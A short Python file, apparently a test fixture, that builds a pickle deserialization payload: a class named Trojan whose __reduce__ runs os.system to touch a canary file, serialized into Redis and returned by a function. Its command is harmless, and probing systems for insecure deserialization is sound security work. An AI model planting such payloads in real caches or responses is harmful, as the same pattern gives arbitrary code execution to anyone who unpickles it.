import os
import pickle

from honest import *
from loot import bait


class Trojan:
    def __reduce__(self):
        return os.system, (f"touch {bait['drop']}/unpickled-{bait['token']}",)


def keep(redis):
    redis.set("kept", pickle.dumps(Trojan()))


def answer():
    return pickle.dumps(Trojan())
